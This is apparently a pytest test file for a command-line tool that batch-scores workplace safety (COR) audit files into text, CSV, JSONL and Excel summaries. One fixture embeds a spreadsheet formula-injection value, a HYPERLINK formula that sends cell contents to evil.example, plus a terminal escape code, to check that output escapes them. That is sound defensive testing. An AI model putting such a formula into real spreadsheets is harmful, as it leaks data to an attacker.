"""`corengine batch`: every audit scored, bad files as rows, exact statistics, the same bytes for any --jobs."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
from fractions import Fraction
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result

from corengine._batch.runner import Source, Stat, Summary, bad_row, chunk_size, discover, exit_code
from corengine._cli.main import cli
from corengine.errors import Problem
from tests.helpers import DATA, EXAMPLES

PASS = "examples/alberta-acsa-cor-certification-pass.yaml"
ELEMENT_FAIL = "examples/alberta-acsa-cor-certification-element-fail.yaml"
ALL_EXAMPLES = "examples/*.yaml"

pytestmark = pytest.mark.usefixtures("in_root")  # file names in the rows are as given: relative to the project


def run(*args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(cli, ["batch", *args], env=env)


@pytest.fixture
def bad_files(tmp_path: Path) -> tuple[str, str]:
    unknown = tmp_path / "unknown-standard.yaml"
    unknown.write_text("standard: nope\n", encoding="utf-8")
    broken = tmp_path / "broken.json"
    broken.write_text('{"standard": ', encoding="utf-8")
    return str(unknown), str(broken)


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_bad_files_among_good_ones_are_rows_and_the_batch_goes_on(bad_files: tuple[str, str]) -> None:
    unknown, broken = bad_files
    result = run(unknown, PASS, broken, "nothing-here/*.yaml", ELEMENT_FAIL, "--format", "csv", "--jobs", "1")
    assert result.exit_code == 2
    assert result.stderr == "error: 3 of 5 files could not be scored (their rows name the problems)\n"
    audits, statistics = result.stdout.split("\n\n")
    assert csv_rows(audits) == [
        [
            "file",
            "standard",
            "employer",
            "date",
            "audit_type",
            "program",
            "overall_percent",
            "elements_below_minimum",
            "outcome",
            "certificate",
            "valid_until",
            "problems",
        ],
        [unknown, "", "", "", "", "", "", "", "bad", "", "", f"{unknown}:1: audit_type: required key is missing; "
         f"{unknown}:1: audit_date: required key is missing; {unknown}:1: employer: required key is missing; "
         "... and 2 more problems"],
        [PASS, "ab-acsa-cor", "Parkland Ridge Builders Ltd. (fictional)", "2024-10-18", "certification", "COR",
         "85.51", "", "pass", "COR (3 years)", "2027-10-18", ""],
        [broken, "", "", "", "", "", "", "", "bad", "", "", f"{broken}:1: not valid JSON: Expecting value"],
        ["nothing-here/*.yaml", "", "", "", "", "", "", "", "bad", "", "", "nothing-here/*.yaml: no file matches this pattern"],
        [ELEMENT_FAIL, "ab-acsa-cor", "Foothills Concrete Forming Inc. (fictional)", "2024-05-24", "certification",
         "COR", "85.00", "3", "fail", "", "", ""],
    ]  # fmt: skip
    assert csv_rows(statistics)[0] == [
        "standard",
        "element",
        "audits",
        "passed",
        "advisory",
        "failed",
        "bad",
        "pass_rate_percent",
        "mean_percent",
        "min_percent",
    ]
    assert csv_rows(statistics)[1] == ["ab-acsa-cor", "overall", "2", "1", "0", "1", "", "50.00", "85.25", "85.00"]
    assert csv_rows(statistics)[-1] == ["all", "", "5", "1", "0", "1", "3", "50.00", "", ""]


def test_exact_statistics_over_the_examples() -> None:
    result = run(ALL_EXAMPLES, "--format", "jsonl")
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["kind"] for line in lines] == ["audit"] * 10 + ["standard"] * 5 + ["totals"]
    assert lines[-1] == {"kind": "totals", "files": 10, "scored": 10, "passed": 9, "advisory": 1, "failed": 1, "bad": 0}
    acsa = lines[10]
    assert acsa["standard"] == "ab-acsa-cor"
    assert (acsa["audits"], acsa["passed"], acsa["failed"], acsa["pass_rate_exact"]) == (3, 2, 1, "200/3")
    # The overall percentages are 1420/17, 85 and 5900/69: the mean is exact, not a mean of rounded values.
    assert acsa["overall"] == {
        "count": 3,
        "mean": 84.68,
        "mean_exact": str((Fraction(1420, 17) + 85 + Fraction(5900, 69)) / 3),
        "min": 83.53,
        "min_exact": "1420/17",
    }
    assert acsa["overall"]["mean_exact"] == "297985/3519"
    assert acsa["elements"][2] == {
        "element": "3",
        "count": 3,
        "mean": 67.56,
        "mean_exact": acsa["elements"][2]["mean_exact"],
        "min": 28.33,
        "min_exact": "85/3",
    }
    ontario = lines[14]
    assert (ontario["standard"], ontario["audits"], ontario["passed"], ontario["advisory"]) == (
        "on-ihsa-cor2020",
        3,
        3,
        1,
    )
    assert ontario["overall"]["min_exact"] == "475/6"
    first = lines[0]
    assert first == {
        "kind": "audit",
        "file": "examples/alberta-acsa-cor-2020-documentation-only.yaml",
        "outcome": "pass",
        "standard": "ab-acsa-cor",
        "employer": "Parkland Ridge Builders Ltd. (fictional)",
        "date": "2020-06-15",
        "audit_type": "certification",
        "program": "COR",
        "overall": 83.53,
        "overall_exact": "1420/17",
        "below_minimum": [],
        "certificate": "COR (1 year)",
        "valid_until": "2021-06-15",
        "problems": [],
        "more_problems": 0,
    }
    assert [
        (line["file"], line["outcome"], line["below_minimum"]) for line in lines[:10] if line["outcome"] != "pass"
    ] == [
        (ELEMENT_FAIL, "fail", ["3"]),
        ("examples/ontario-internal-fail.yaml", "advisory", ["9"]),
    ]


def test_text_summary() -> None:
    result = run(PASS, ELEMENT_FAIL, "--jobs", "1", env={"COLUMNS": "200"})  # wide: no line wraps
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    assert lines[:4] == [
        f"PASS       85.51%  {PASS}",
        "                   ab-acsa-cor certification audit (COR) on 2024-10-18, Parkland Ridge Builders Ltd. "
        "(fictional); COR (3 years) until 2027-10-18",
        f"FAIL       85.00%  {ELEMENT_FAIL}",
        "                   ab-acsa-cor certification audit (COR) on 2024-05-24, Foothills Concrete Forming Inc. "
        "(fictional); below the element minimum: 3",
    ]
    assert lines[4:11] == [
        "",
        "2 files: 1 passed, 1 failed, 0 could not be scored",
        "",
        "ab-acsa-cor: 2 audits, 1 passed, 1 failed; pass rate 50.00%",
        "  Element  Audits    Mean     Min",
        "  -------  ------  ------  ------",
        "  overall       2  85.25%  85.00%",
    ]


@pytest.mark.parametrize("fmt", ["text", "csv", "jsonl", "xlsx"])
def test_jobs_1_and_jobs_2_write_the_same_bytes(fmt: str, tmp_path: Path, bad_files: tuple[str, str]) -> None:
    outputs = []
    for jobs in ("1", "2"):
        target = tmp_path / f"out-{jobs}.{fmt}"
        result = run(ALL_EXAMPLES, bad_files[0], PASS, "--format", fmt, "--jobs", jobs, "-o", str(target))
        assert result.exit_code == 2, result.output
        assert result.stderr.startswith(f"wrote {target}\n")
        outputs.append(target.read_bytes())
    assert outputs[0] == outputs[1]
    assert len(outputs[0]) > 1000


def test_jobs_2_over_many_files_keeps_input_order(tmp_path: Path) -> None:
    for n in range(40):
        shutil.copy(
            EXAMPLES / ("alberta-acsa-secor.yaml" if n % 3 else "ontario-internal-pass.yaml"),
            tmp_path / f"a{n:02}.yaml",
        )
    serial = run(str(tmp_path), "--format", "jsonl", "--jobs", "1")
    parallel = run(str(tmp_path), "--format", "jsonl", "--jobs", "2")
    assert serial.exit_code == parallel.exit_code == 0
    assert serial.stdout == parallel.stdout
    files = [json.loads(line)["file"] for line in parallel.stdout.splitlines()[:40]]
    assert files == [str(tmp_path / f"a{n:02}.yaml") for n in range(40)]


def test_folders_and_globs_are_searched(tmp_path: Path) -> None:
    (tmp_path / "sub" / "deeper").mkdir(parents=True)
    (tmp_path / ".hidden").mkdir()
    for name in (
        "b.yaml",
        "a.JSON",
        "c.xlsx",
        "notes.txt",
        ".partial.yaml",
        "sub/z.yml",
        "sub/deeper/y.yaml",
        ".hidden/x.yaml",
    ):
        (tmp_path / name).write_text("", encoding="utf-8")
    folder = str(tmp_path)
    assert discover([folder]) == [
        Source(os.path.join(folder, "a.JSON")),
        Source(os.path.join(folder, "b.yaml")),
        Source(os.path.join(folder, "c.xlsx")),
        Source(os.path.join(folder, "sub", "z.yml")),  # a folder's files before its subfolders'
        Source(os.path.join(folder, "sub", "deeper", "y.yaml")),
    ]
    assert discover([f"{folder}/**/*.y*ml", f"{folder}/b.yaml", f"{folder}/notes.txt", f"{folder}/none"]) == [
        Source(f"{folder}/b.yaml"),
        Source(f"{folder}/sub/deeper/y.yaml"),
        Source(f"{folder}/sub/z.yml"),
        Source(f"{folder}/notes.txt"),  # named: taken whatever its ending
        Source(f"{folder}/none", "no such file or folder"),
    ]


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")\x1b[31m'


@pytest.fixture
def hostile(tmp_path: Path) -> str:
    text = (EXAMPLES / "alberta-acsa-secor.yaml").read_text(encoding="utf-8")
    name = "Bow Valley Finish Carpentry Ltd. (fictional)"
    assert name in text
    path = tmp_path / "hostile.yaml"
    path.write_text(text.replace(name, json.dumps(HOSTILE)), encoding="utf-8")
    return str(path)


def test_a_hostile_employer_is_text_in_csv_xlsx_and_on_the_terminal(hostile: str, tmp_path: Path) -> None:
    as_csv = run(hostile, "--format", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    row = csv_rows(as_csv.stdout.split("\n\n")[0])[1]
    assert row[2] == "'" + HOSTILE.replace("\x1b", "\\x1b")

    target = tmp_path / "out.xlsx"
    assert run(hostile, "--format", "xlsx", "-o", str(target)).exit_code == 0
    sheet = openpyxl.load_workbook(target)["Audits"]
    cell = sheet["C2"]
    # Text, never a formula; the control character (which XML cannot hold) shown escaped.
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE.replace("\x1b", "\\x1b"), "s", True)

    text = run(hostile).stdout
    assert "\x1b" not in text
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")\\x1b[31m' in text


def test_check_exits_1_when_an_audit_fails_and_2_wins_for_a_bad_file(bad_files: tuple[str, str]) -> None:
    assert run(PASS, "--check").exit_code == 0
    assert run(PASS, ELEMENT_FAIL).exit_code == 0
    assert run(PASS, ELEMENT_FAIL, "--check").exit_code == 1
    assert run(PASS, ELEMENT_FAIL, bad_files[1], "--check").exit_code == 2
    # An advisory pass is a pass for --check, and a failure with --strict.
    assert run("examples/ontario-internal-fail.yaml", "--check").exit_code == 0
    strict = run("examples/ontario-internal-fail.yaml", "--check", "--strict", "--format", "jsonl")
    assert strict.exit_code == 1
    assert json.loads(strict.stdout.splitlines()[0])["outcome"] == "fail"


def test_an_output_that_is_an_input_is_refused(tmp_path: Path) -> None:
    audit = tmp_path / "audit.yaml"
    shutil.copy(EXAMPLES / "alberta-acsa-secor.yaml", audit)
    before = audit.read_bytes()
    result = run(str(tmp_path), "--format", "csv", "-o", str(audit))
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: {audit}: is the same file as the input {audit}; choose another output (inputs are never overwritten)\n"
    )
    assert audit.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit.yaml"]


def test_a_file_written_with_o_replaces_the_old_one_whole(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old\n", encoding="utf-8")
    result = run(PASS, "--format", "csv", "-o", str(target))
    assert result.exit_code == 0
    assert target.read_text(encoding="utf-8").startswith("file,standard,")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_xlsx_on_a_terminal_is_refused_and_bad_options_are_usage_errors() -> None:
    assert run(PASS, "--jobs", "0").exit_code == 2
    assert run(PASS, "--format", "pdf").exit_code == 2
    assert run().exit_code == 2


def test_standard_file_is_used_by_every_worker(tmp_path: Path) -> None:
    data = DATA
    copies = []
    for n in range(4):
        copy = tmp_path / f"basic-{n}.yaml"
        shutil.copy(data / "audit-basic.yaml", copy)
        copies.append(str(copy))
    args = [*copies, "--standard-file", str(data / "standards" / "test-basic.yaml"), "--format", "jsonl"]
    serial, parallel = run(*args, "--jobs", "1"), run(*args, "--jobs", "2")
    assert serial.exit_code == parallel.exit_code == 0, parallel.output
    assert serial.stdout == parallel.stdout
    assert json.loads(parallel.stdout.splitlines()[-1])["scored"] == 4


def test_running_statistics_and_exit_codes_in_the_library() -> None:
    stat = Stat().add(Fraction(1, 3)).add(None).add(Fraction(2, 3))
    assert (stat.count, stat.mean, stat.minimum) == (2, Fraction(1, 2), Fraction(1, 3))
    summary = Summary()
    summary.add(bad_row("x.yaml", [Problem(file="x.yaml", message="broken")] * 5))
    assert summary.counts["bad"] == 1 and summary.standards == {}
    assert exit_code(summary, check=False) == 2
    assert bad_row("x.yaml", ["a", "b", "c", "d"], truncated=2).more_problems == 3
    assert [chunk_size(n, 2) for n in (1, 100, 10_000)] == [1, 6, 64]


# --------------------------------------------------------------------------- hostile inputs and interruptions


def test_text_rows_fit_80_columns_with_long_file_and_employer_names(tmp_path: Path) -> None:
    folder = tmp_path / ("f" * 50)
    folder.mkdir()
    long_file = folder / ("an-audit-file-whose-name-is-far-too-long-for-one-line-" + "x" * 30 + ".yaml")
    text = (EXAMPLES / "alberta-acsa-cor-certification-pass.yaml").read_text(encoding="utf-8")
    long_file.write_text(
        text.replace("Parkland Ridge Builders Ltd. (fictional)", "Parkland Ridge " * 8 + "Builders"), encoding="utf-8"
    )
    result = run(str(long_file), "nothing-here/" + "n" * 90 + "/*.yaml", "--jobs", "1")
    assert result.exit_code == 2
    lines = result.stdout.splitlines()
    assert max(len(line) for line in lines) <= 80, "\n".join(line for line in lines if len(line) > 80)
    assert lines[0].startswith("PASS       85.51%  " + str(tmp_path)[:20])
    assert "".join(line.strip() for line in lines[:5]).count(long_file.name) == 1  # cut into lines, never lost
    assert "Builders; COR (3 years) until 2027-10-18" in " ".join(line.strip() for line in lines)


def test_a_fifo_in_a_folder_is_a_row_and_never_read(tmp_path: Path) -> None:
    shutil.copy(EXAMPLES / "alberta-acsa-cor-certification-pass.yaml", tmp_path / "a.yaml")
    os.mkfifo(tmp_path / "b.yaml")  # reading it would wait for a writer for ever
    message = "a named pipe (FIFO), not a regular file: not read (name it outright to read it)"
    assert discover([str(tmp_path)]) == [Source(str(tmp_path / "a.yaml")), Source(str(tmp_path / "b.yaml"), message)]
    assert discover([str(tmp_path / "*.yaml")])[1] == Source(str(tmp_path / "b.yaml"), message)
    result = run(str(tmp_path), "--format", "csv", "--jobs", "1")
    assert result.exit_code == 2
    assert csv_rows(result.stdout)[2][-1] == f"{tmp_path / 'b.yaml'}: {message}"


def test_a_file_reached_through_links_is_scored_once_and_link_loops_end(tmp_path: Path) -> None:
    shutil.copy(EXAMPLES / "alberta-acsa-cor-certification-pass.yaml", tmp_path / "a.yaml")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "up").symlink_to("..")  # a loop: a glob's ** would list a.yaml again at every depth
    os.link(tmp_path / "a.yaml", tmp_path / "hard.yaml")
    (tmp_path / "soft.yaml").symlink_to("a.yaml")
    assert discover([str(tmp_path / "**" / "*.yaml")]) == [Source(str(tmp_path / "a.yaml"))]
    assert discover([str(tmp_path), str(tmp_path / "sub" / "up" / "a.yaml")]) == [Source(str(tmp_path / "a.yaml"))]
    (tmp_path / "sub" / "up2").symlink_to("..")  # two loops: glob.glob's ** would never end
    assert discover([str(tmp_path / "**" / "*.yaml")]) == [Source(str(tmp_path / "a.yaml"))]


def test_a_recursive_glob_matches_what_glob_matches_without_links() -> None:
    import glob

    from corengine._batch.runner import _glob

    for pattern in ("examples/**/*.yaml", "**/*.xlsx", "exa*/**/*.yaml", "examples/*/**/*.yaml", "**/evidence/"):
        assert _glob(pattern) == sorted(glob.glob(pattern, recursive=True)), pattern
    assert _glob("nothing-here/**") == []


def test_jobs_are_bounded_and_never_more_than_the_chunks(monkeypatch: pytest.MonkeyPatch) -> None:
    result = run(PASS, "--jobs", "100000")
    assert result.exit_code == 2
    assert "Invalid value for '--jobs' / '-j': 100000 is not in the range 1<=x<=256." in result.stderr
    import corengine._batch.runner as batch

    asked: list[int] = []
    real = batch.ProcessPoolExecutor

    def counting(max_workers: int, **kwargs: object) -> object:
        asked.append(max_workers)
        return real(max_workers=max_workers, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(batch, "ProcessPoolExecutor", counting)
    engine = batch.make_engine()
    rows = list(batch.rows(discover([PASS, ELEMENT_FAIL]), engine, jobs=200))
    assert asked == [2]
    assert [row.outcome for row in rows] == ["pass", "fail"]


def test_an_interrupted_xlsx_batch_leaves_no_temporary_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import tempfile

    from corengine._batch import formats as batch_formats

    spool = tmp_path / "spool"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))  # where openpyxl keeps its sheets until the end
    written = []

    def interrupted(self: batch_formats.XlsxWriter, row: object) -> None:
        if written:
            raise KeyboardInterrupt
        written.append(row)
        original(self, row)  # type: ignore[arg-type]

    original = batch_formats.XlsxWriter.row
    monkeypatch.setattr(batch_formats.XlsxWriter, "row", interrupted)
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"old")
    result = run(PASS, ELEMENT_FAIL, "--format", "xlsx", "-o", str(target), "--jobs", "1")
    assert result.exit_code == 1  # click: Aborted!
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx", "spool"]
    assert list(spool.iterdir()) == []


INDEXES = sorted(str(p) for p in (EXAMPLES / "evidence").iterdir() if p.suffix in (".yaml", ".xlsx"))


def test_a_folder_walk_skips_evidence_indexes_and_says_so() -> None:
    result = run("examples/", "--format", "csv", "--jobs", "1")
    assert result.exit_code == 0, result.output
    names = [f"examples/evidence/{Path(p).name}" for p in INDEXES]
    assert len(names) == 10 and "examples/evidence/alberta-evidence-partial.xlsx" in names
    assert result.stderr == (
        f"skipped 10 evidence indexes: {', '.join(names)} (not audits; `corengine readiness` reads them)\n"
    )
    rows = csv_rows(result.stdout.split("\n\n")[0])[1:]
    assert [row[0] for row in rows] == sorted(f"examples/{p.name}" for p in EXAMPLES.glob("*.yaml"))


def test_a_glob_skips_one_evidence_index_in_the_singular() -> None:
    result = run("examples/evidence/bc-evidence-stale.*", PASS, "--format", "csv")
    assert (result.exit_code, result.stderr) == (
        0,
        "skipped 1 evidence index: examples/evidence/bc-evidence-stale.yaml (not audits; `corengine readiness` "
        "reads them)\n",
    )


def test_an_evidence_index_named_outright_is_read_and_its_row_says_what_it_is() -> None:
    result = run("examples/evidence/bc-evidence-stale.yaml", "--format", "jsonl")
    assert (result.exit_code, result.stderr.splitlines()) == (
        2,
        ["error: 1 of 1 file could not be scored (their rows name the problems)"],
    )
    row = json.loads(result.stdout.splitlines()[0])
    assert (row["outcome"], row["problems"]) == (
        "bad",
        [
            {
                "file": "examples/evidence/bc-evidence-stale.yaml",
                "line": None,
                "column": None,
                "cell": None,
                "path": "",
                "message": "an evidence index, not an audit (`corengine readiness STANDARD FILE` reads it)",
                "hint": None,
            }
        ],
    )


def test_discover_tells_an_index_from_an_audit_by_content(tmp_path: Path) -> None:
    shutil.copy(EXAMPLES / "evidence" / "bc-evidence-stale.yaml", tmp_path / "renamed-audit.yaml")
    shutil.copy(EXAMPLES / "evidence" / "alberta-evidence-partial.xlsx", tmp_path / "sheet.xlsx")
    shutil.copy(EXAMPLES / "bc-small-certification.yaml", tmp_path / "evidence-index.yaml")
    (tmp_path / "almost.yaml").write_text("manual: []\nresponses: {}\n", encoding="utf-8")
    skipped: list[str] = []
    assert discover([str(tmp_path)], skipped) == [
        Source(str(tmp_path / "almost.yaml")),
        Source(str(tmp_path / "evidence-index.yaml")),
    ]
    assert skipped == [str(tmp_path / "renamed-audit.yaml"), str(tmp_path / "sheet.xlsx")]


def test_the_xlsx_summary_is_a_table_with_typed_cells(tmp_path: Path) -> None:
    target = tmp_path / "out.xlsx"
    assert run(PASS, ELEMENT_FAIL, "--format", "xlsx", "-o", str(target)).exit_code == 0
    book = openpyxl.load_workbook(target)
    audits, statistics = book["Audits"], book["Statistics"]
    for sheet, columns in ((audits, 12), (statistics, 10)):
        header = next(sheet.iter_rows(min_row=1, max_row=1))
        assert len(header) == columns and all(cell.font.bold for cell in header)
        assert sheet.freeze_panes == "A2"
    assert audits.auto_filter.ref == "A1:L3"
    assert statistics.auto_filter.ref == f"A1:J{statistics.max_row}"
    assert [audits.column_dimensions[c].width for c in "ABCDL"] == [40, 18, 30, 12, 60]
    passed = {cell.column_letter: cell for cell in audits[2]}
    assert (passed["D"].value, passed["D"].number_format) == (dt.datetime(2024, 10, 18), "yyyy-mm-dd")
    assert (passed["K"].value, passed["K"].number_format) == (dt.datetime(2027, 10, 18), "yyyy-mm-dd")
    assert (passed["G"].value, passed["G"].number_format) == (85.51, "0.00")
    assert (passed["A"].value, passed["I"].value, passed["J"].value) == (PASS, "pass", "COR (3 years)")
    failed = {cell.column_letter: cell for cell in audits[3]}
    assert (failed["G"].value, failed["H"].value, failed["K"].value) == (85.0, "3", None)
    overall = {cell.column_letter: cell.value for cell in statistics[2]}
    assert (overall["A"], overall["B"], overall["C"], overall["D"], overall["H"]) == (
        "ab-acsa-cor",
        "overall",
        2,
        1,
        50.0,
    )
